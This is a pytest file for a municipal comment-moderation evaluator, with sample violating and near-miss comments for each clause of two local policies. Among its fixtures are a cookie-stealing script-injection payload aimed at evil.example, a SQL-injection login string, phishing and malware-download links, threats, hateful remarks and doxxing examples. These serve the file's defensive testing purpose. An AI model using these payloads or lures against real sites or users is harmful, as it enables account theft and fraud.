"""Each clause of Marseilles' and Montgomery County's own lists, on comments written for them.

Marseilles, Code § 39.52 (A)-(I), and the bullets of Montgomery County Environmental Services'
code of conduct: several comments per clause, written the way people write on a city page, each
of which must be cited under that clause of that city, and near-misses (criticism of officials,
questions, reports, counter-speech, the city's own business) that must not be cited under it
and are never removed. The expectations come from each policy's wording, not from running the
evaluator.
"""

from __future__ import annotations

from functools import cache

import pytest

import municipal_social_policy as msp

#: Every comment answers a post of the page, as comments do (the off-topic rule reads it).
THREAD = msp.Thread(topic="Spring brush pickup", text="Brush pickup starts Monday, April 8.")


def comment(text: str) -> msp.Comment:
    """``text`` as a comment answering the page's post."""
    return msp.Comment(text=text, thread=THREAD)


#: A news story pasted whole, with its publisher's notice (§ 39.52(I), "copyrighted ... content").
ARTICLE = (
    "Here's the whole article since the Times paywalled it: The city council voted Tuesday to"
    " approve a new water rate structure that will raise average residential bills by twelve"
    " percent beginning in July, officials said. The increase, the first in six years, will fund"
    " repairs to the aging treatment plant and replacement of lead service lines across the east"
    " side. Council members debated the proposal for more than two hours before the vote."
    " Copyright 2024 Shaw Media. All rights reserved."
)

#: § 39.52 subsection -> comments the subsection's wording names.
MARSEILLES: dict[str, list[str]] = {
    "39.52(A)": [
        "Happy birthday sis!! love you so much",
        "Lost my cat near the park, grey tabby, answers to Milo",
        "Anyone watching the Bears game tonight?",
        "What's everyone's favorite pizza place around here?",
        "Check out my new store on Etsy, 20% off this week only",
    ],
    "39.52(B)": [
        "I'm going to kill the mayor if he raises my water bill again",
        "Watch your back, we know where you live",
        "I'll burn your house down you crook",
        "Somebody needs to put a bullet in that alderman",
        "Mayor Dave Jensen is stealing from the water fund and everyone knows it",
        "Commissioner Bob Kowalski took bribes from the paving contractor",
        "This is fucking ridiculous",
        "What a load of bullshit from city hall",
        "Alderman Moore is a thief who stole from the VFW",
        "The chief of police is a pedophile",
        "I hope someone beats the crap out of the chief",
    ],
    "39.52(C)": [
        "Mexicans are ruining this town, send them all back",
        "Muslims shouldn't be allowed to live here",
        "Gay people are disgusting and shouldn't be around kids",
        "Women shouldn't be on the city council, they're too emotional",
        "People on welfare are parasites leeching off the rest of us",
        "Disabled people are a burden on this town",
    ],
    "39.52(D)": [
        "Send me nudes ;)",
        "Hot singles in your area want to show you their nude pics",
        "check out my onlyfans for spicy content",
        "Free porn videos at pornhub.com",
        "Hot pics at xvideos.com",
        "I'd love to see her naked",
    ],
    "39.52(E)": [
        "My SSN is 356-21-4476, can someone call me about my bill?",
        "Joe Smith's cell is 815-555-0142, call him and complain",
        "She lives at 412 Lincoln St, go tell her yourself",
        "Email the guy who hit my car: tom.baker88@gmail.com",
        "Her date of birth is 03/14/1985",
        "His bank account number is 004418825 at First National",
        "Here's her medical records from the clinic, she has HIV",
    ],
    "39.52(F)": [
        "Heads up, the unmarked cop car is parked behind the Casey's on Main",
        "DUI checkpoint on Route 6 by the bridge tonight, take the back roads",
        "The code to the back door of the police station is 4471",
        "Ignore the boil order, the water is fine, they just want to look busy",
        "Don't bother evacuating, the river won't get that high",
        "Try this in the water bill login box: ' OR 1=1 --",
        "<script>document.location='http://evil.example/steal?c='+document.cookie</script>",
        "The undercover officers drive the black Tahoe, it's always parked by the Dollar General",
    ],
    "39.52(G)": [
        "Vote for Jensen for mayor on April 4th!",
        "Don't vote for Kowalski, he'll raise your taxes",
        "Re-elect Alderman Moore, she gets things done",
        "Vote NO on the school referendum",
        "Jensen for Mayor 2025!",
    ],
    "39.52(H)": [
        "Let's all go spray paint the new bridge tonight",
        "I can sell you some weed, DM me",
        "Just drive around the barricades, the cops never check",
        "Who wants to help me steal the copper from the old factory",
        "Selling fake vaccine cards, message me",
        "Let's go smash the mailboxes on Oak St tonight",
        "You won a free $500 gift card! Enter your bank login here: http://claim-prize.win/login",
        "Pay your water bill here to avoid shutoff: http://cityofmarseilles.com.bill-pay.ru/login",
        "Get the new city alerts app here: http://freeapps-download.xyz/marseilles-alerts.exe",
    ],
    "39.52(I)": [
        "Full movie free download: Top Gun Maverick 1080p torrent",
        "Stream every Bears game free, no cable, link on the pirate bay",
        "Cracked Photoshop download here, works great",
        ARTICLE,
    ],
}

#: § 39.52 subsection -> comments that must not be cited under it.
MARSEILLES_NEAR: dict[str, list[str]] = {
    "39.52(A)": [
        "When does the brush pickup reach the east side?",
        "The streets department never picked up my branches last year.",
    ],
    "39.52(B)": [
        "The mayor's plan is a disaster and he should resign.",
        "I'm so angry about this tax increase, vote them all out.",
        "Did the council ever look into the missing water funds?",
        "I'd kill for a working streetlight on my block.",
    ],
    "39.52(C)": [
        "We need Spanish-language forms at city hall.",
        "Hate has no home in Marseilles.",
        "Seniors need a better bus service.",
        "Welfare reform is long overdue in this state.",
    ],
    "39.52(D)": [
        "The health department offers free STD testing on Tuesday.",
        "Breast cancer screening van is at the library Saturday.",
    ],
    "39.52(E)": [
        "I live on Lincoln St and the pothole is still there.",
        "My birthday is next week lol",
    ],
    "39.52(F)": [
        "Thank you to the officers who worked the flood.",
        "There should be more patrols on Main Street at night.",
        "Is the boil order still in effect?",
        "The police should investigate the break-ins on Pine.",
        "Please don't ignore the boil order, my neighbor got sick.",
        "Got a scam text pretending to be the water department, be careful.",
        "The water bill login page keeps timing out.",
    ],
    "39.52(G)": [
        "Where do I vote in the April election?",
        "Did the school referendum pass?",
    ],
    "39.52(H)": [
        "Someone spray painted the bridge last night, call the police if you saw anything.",
        "Weed should be legal in this state.",
        "Fireworks are illegal in city limits, please be careful.",
    ],
    "39.52(I)": [
        "The library has free movie nights on Fridays.",
        "I took this photo of the flood myself.",
    ],
}

#: Montgomery County's bullet (this encoding's clause id) -> comments the bullet names.
MONTGOMERY: dict[str, list[str]] = {
    "profane": [
        "This is fucking ridiculous",
        "What a load of bullshit from the county",
        "Send me nudes ;)",
        "check out my onlyfans for spicy content",
        "Hot singles in your area want to show you their nude pics",
    ],
    "threats": [
        "I'm going to kill the director if my trash isn't picked up",
        "Watch your back, we know where you live",
        "Commissioner Judy Dodgeson is stealing taxpayer money",
        "Everyone call the director's cell phone nonstop until he quits",
        "The director is a pedophile",
        "That inspector Tom Blake falsified the reports and took kickbacks",
        "Keep harassing her until she deletes her account",
        "I'll burn your house down you crook",
    ],
    "hate": [
        "Mexicans are ruining Dayton, send them all back",
        "Muslims shouldn't be allowed to live here",
        "Gay people are disgusting and shouldn't be around kids",
        "Hispanics are all criminals",
        "Disabled people are a burden on this county",
    ],
    "promotions": [
        "Check out my landscaping business, 20% off this month!",
        "Buy my homemade compost, $5 a bag, DM me",
        "Use promo code GREEN20 for 20% off solar panels",
        "Follow my YouTube channel for recycling tips",
        "Selling replica Nike shoes, look just like the real thing",
        "Miller Septic is the best, call them!",
    ],
    "illegal": [
        "Just dump your old tires in the creek, nobody checks",
        "Let's spray paint the water tower tonight",
        "Selling percs, inbox me",
        "Full movie free download: Top Gun Maverick 1080p torrent",
        "Cracked Photoshop download here, works great",
        "Selling replica Nike shoes, look just like the real thing",
    ],
    "campaigns": [
        "Vote for Judy Dodgeson for commissioner!",
        "Don't vote for Kowalski in November, he'll raise our sewer rates",
        "Re-elect Commissioner Moore, she gets things done",
    ],
    "off-topic": [
        "Happy birthday sis!! love you so much",
        "Lost my dog near Dixie Highway, brown lab, answers to Max",
        "Anyone watching the Bengals game tonight?",
        "Why does the Ohio BMV take forever to renew plates?",
        "When is the IRS going to send my refund?",
    ],
    "spam-links": [
        "Check this out https://bit.ly/3xYzAb",
        "More on this at https://www.daytonnewsfeed.com/story/123",
        "Earn $500 a day from home!!! Click here http://cash-now.biz",
        "You won a $1000 gift card! Claim it here: http://giftclaim.win/claim",
        "Follow me https://facebook.com/joesmithofficial",
        "Subscribe to my channel!!!",
        "Check out my page for more recycling tips",
        "I make $8000 a month working from home, ask me how",
    ],
    "confidential": [
        "My SSN is 356-21-4476, please call me",
        "Card number 4111 1111 1111 1111 exp 04/27",
        "The code to the back gate of the transfer station is 4471",
        "The undercover deputy's car is the grey Malibu parked at the Kroger",
        "Her date of birth is 04/12/1979",
        "Deputy Reyes lives on Pine St and his kids go to Fairmont High",
        "Here's the internal email from the director saying they knew about the leak",
        "My friend at the county says 40 people are getting laid off, it hasn't been announced yet",
    ],
}

#: Montgomery County's bullet -> comments that must not be cited under it.
MONTGOMERY_NEAR: dict[str, list[str]] = {
    "profane": [
        "The health department offers free STD testing on Tuesday.",
        "Sex education should be taught in schools.",
    ],
    "threats": [
        "The director should resign over this.",
        "I'm furious about the rate increase.",
        "Call the commissioners and tell them what you think at the meeting.",
    ],
    "hate": [
        "Hate has no home in Montgomery County.",
        "Please print the recycling guide in Spanish too.",
    ],
    "promotions": [
        "Does the county sell compost bins?",
        "The county's compost giveaway was great, thank you!",
    ],
    "illegal": [
        "Someone dumped tires on my road, who do I call?",
        "Is it legal to burn leaves in the county?",
    ],
    "campaigns": [
        "Where is my polling place?",
        "Commissioner Dodgeson spoke at the meeting last night.",
        "Vote yes on Issue 12, the county levy",
        "Vote NO on the sewer levy in November",
        "Support the parks levy!",
    ],
    "off-topic": [
        "When does the transfer station open on Saturday?",
        "Does the county take yard waste with the brush?",
    ],
    "spam-links": [
        "The schedule is on the county's website.",
        "Is there a link to the recycling schedule?",
        "Hours are at https://www.mcohio.org/departments/environmental_services",
        "Thanks for the recycling tips, I shared them on my page",
        "My business recycles cardboard, does the county take it?",
    ],
    "confidential": [
        "Is the meeting agenda public?",
        "My birthday is tomorrow!",
        "The budget is posted on the county's site.",
        "The sheriff's office is investigating the dumping, call them if you saw anything.",
        "Call me at 937-555-0143 about the missed pickup",
    ],
}


@cache
def _evaluator(city: str) -> msp.Evaluator:
    return msp.Evaluator(msp.load(city))


def _rows(battery: dict[str, list[str]], city: str) -> list[tuple[str, str, str]]:
    return [(city, clause, text) for clause, texts in battery.items() for text in texts]


@pytest.mark.parametrize(
    ("city", "clause", "text"),
    _rows(MARSEILLES, "marseilles") + _rows(MONTGOMERY, "montgomery-county-oh"),
)
def test_the_city_cites_its_own_clause(city: str, clause: str, text: str) -> None:
    """A comment of the kind a clause names is cited under that clause of that city."""
    verdict = _evaluator(city).evaluate(comment(text))
    assert clause in {finding.clause.id for finding in verdict.findings}, (
        text,
        [finding.clause.id for finding in verdict.findings],
    )


@pytest.mark.parametrize(
    ("city", "clause", "text"),
    _rows(MARSEILLES_NEAR, "marseilles") + _rows(MONTGOMERY_NEAR, "montgomery-county-oh"),
)
def test_a_near_miss_is_not_cited_under_the_clause(city: str, clause: str, text: str) -> None:
    """Criticism, questions, reports and counter-speech near a clause are not cited under it
    and never removed."""
    verdict = _evaluator(city).evaluate(comment(text))
    assert clause not in {finding.clause.id for finding in verdict.findings}
    assert verdict.decision is not msp.Decision.REMOVE


@pytest.mark.parametrize(
    ("city", "text", "decision"),
    [
        # Marseilles § 39.52(F), "security of ... public systems": script injection written as code.
        (
            "marseilles",
            "<script>document.location='http://evil.example/steal?c='+document.cookie</script>",
            msp.Decision.REMOVE,
        ),
        # § 39.52(H), "Conduct ... of illegal activity": a link imitating the city's own site, an
        # installer on an untrusted host; a prize lure is judgment.
        (
            "marseilles",
            "Pay your water bill here to avoid shutoff: http://cityofmarseilles.com.bill-pay.ru/login",
            msp.Decision.REMOVE,
        ),
        (
            "marseilles",
            "Get the new city alerts app here: http://freeapps-download.xyz/marseilles-alerts.exe",
            msp.Decision.REMOVE,
        ),
        (
            "marseilles",
            "You won a free $500 gift card! Enter your bank login here: http://claim-prize.win/login",
            msp.Decision.REVIEW,
        ),
        # § 39.52(F), "the safety ... of the public": a safety order waved away is judgment.
        (
            "marseilles",
            "Ignore the boil order, the water is fine, they just want to look busy",
            msp.Decision.REVIEW,
        ),
        # Montgomery County, "Obscene, indecent": a request for nude pictures is judgment.
        ("montgomery-county-oh", "Send me nudes ;)", msp.Decision.REVIEW),
        # "confidential or non-public information": a date of birth, an undercover car (judgment).
        ("montgomery-county-oh", "Her date of birth is 04/12/1979", msp.Decision.REVIEW),
        (
            "montgomery-county-oh",
            "The undercover deputy's car is the grey Malibu parked at the Kroger",
            msp.Decision.REVIEW,
        ),
    ],
)
def test_mechanical_evidence_removes_and_judgment_goes_to_a_person(
    city: str, text: str, decision: msp.Decision
) -> None:
    """The ceilings the files give the new mappings: mechanical links and code may be removed,
    everything else goes to review."""
    assert _evaluator(city).evaluate(comment(text)).decision is decision


def test_a_candidate_appeal_beside_a_levy_appeal_is_still_cited() -> None:
    """Montgomery County drops sides taken on a measure, not the candidate appeal beside one."""
    verdict = _evaluator("montgomery-county-oh").evaluate(
        comment("Vote NO on Issue 2 and vote for Moore for commissioner")
    )
    assert [finding.clause.id for finding in verdict.findings] == ["campaigns"]
    evidence = [item.text for finding in verdict.findings for item in finding.evidence]
    assert not any("Issue" in text for text in evidence), evidence
